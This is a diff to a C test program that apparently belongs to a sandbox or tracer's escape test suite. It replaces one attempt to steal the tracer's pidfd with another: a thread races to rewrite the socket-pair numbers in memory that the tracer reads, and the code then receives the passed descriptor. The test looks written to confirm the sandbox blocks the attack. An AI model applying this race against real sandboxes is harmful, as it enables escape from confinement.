@@ -1,8 +1,9 @@
 /* SPDX-License-Identifier: LGPL-3.0-or-later */
 /*
- * The tracer hands a descriptor over through a socket pair that it makes in the caller's name;
- * a sibling asks that socket for the sender's identity and takes the message away: a descriptor
- * of the tracer's own process must be of no use.
+ * The tracer hands a descriptor over through a socket pair that it makes in the caller's name. A
+ * sibling exchanges the pair's numbers, which lie in memory of theirs, for a socket that asks for
+ * the sender's identity: a descriptor of the tracer's own process must be of no use.
+ * ATTACK BROKEN: PIDFD
  */
 #include "escape.h"
 
@@ -33,36 +34,55 @@ static void use(int fd)
 	close(fd);
 }
 
-static void *steal(void *data)
+static int own[2];
+static char *page;
+
+/* Where the kernel writes the pair's numbers; there is nothing there most of the time. */
+static void *aim(void *data)
 {
+	int number = memfd_create("number", 0);
+
 	(void)data;
-	for (;;) {
-		for (int sock = 3; sock < 12; sock++) {
-			char byte, control[256];
-			struct iovec part = { &byte, 1 };
-			struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1,
-						  .msg_control = control,
-						  .msg_controllen = sizeof(control) };
-			int on = 1;
-
-			if (setsockopt(sock, SOL_SOCKET, SO_PASSPIDFD, &on, sizeof(on)) < 0)
-				continue;
-			(void)setsockopt(sock, SOL_SOCKET, SO_PASSCRED, &on, sizeof(on));
-			if (recvmsg(sock, &message, MSG_DONTWAIT) <= 0)
-				continue;
-			for (struct cmsghdr *part_of = CMSG_FIRSTHDR(&message); part_of != NULL;
-			     part_of = CMSG_NXTHDR(&message, part_of)) {
-				int fd;
-
-				memcpy(&fd, CMSG_DATA(part_of), sizeof(fd));
-				if (part_of->cmsg_type == 4 /* SCM_PIDFD */)
-					use(fd);
-				else if (part_of->cmsg_type == SCM_RIGHTS)
-					close(fd);
-			}
-		}
-	}
+	(void)!write(number, &own[0], sizeof(own[0]));
+	for (;;)
+		(void)!pread(number, page + sizeof(int), sizeof(int), 0);
 	return NULL;
+}
+
+static void receive(void)
+{
+	char byte, control[256];
+	struct iovec part = { &byte, 1 };
+	struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = control,
+				  .msg_controllen = sizeof(control) };
+
+	if (recvmsg(own[1], &message, MSG_DONTWAIT) <= 0)
+		return;
+	for (struct cmsghdr *of = CMSG_FIRSTHDR(&message); of != NULL;
+	     of = CMSG_NXTHDR(&message, of)) {
+		int fd;
+
+		memcpy(&fd, CMSG_DATA(of), sizeof(fd));
+		if (of->cmsg_type == 4 /* SCM_PIDFD */)
+			use(fd);
+		else if (of->cmsg_type == SCM_RIGHTS)
+			close(fd);
+	}
+}
+
+static void prepare(void)
+{
+	int on = 1;
+
+	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, own) < 0)
+		broken("socketpair");
+	if (setsockopt(own[1], SOL_SOCKET, SO_PASSPIDFD, &on, sizeof(on)) < 0)
+		skip("no SO_PASSPIDFD");
+	puts("");
+	start(aim, NULL);
+	/* Thread and stdio have their memory by now: this is the next place that is free. */
+	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	munmap(page, 4096);
 }
 
 int main(int argc, char **argv)
@@ -86,12 +106,13 @@ int main(int argc, char **argv)
 		broken("exec");
 	}
 	unlink("copy");
-	start(steal, NULL);
+	prepare();
 	while (racing(&race)) {
 		int fd = open("/proc/self/exe", O_RDONLY);
 
 		opened += fd >= 0;
 		close(fd);
+		receive();
 	}
 	printf("%lu of %lu opened, %lu stolen\n", opened, race.rounds, stolen);
 	contained();
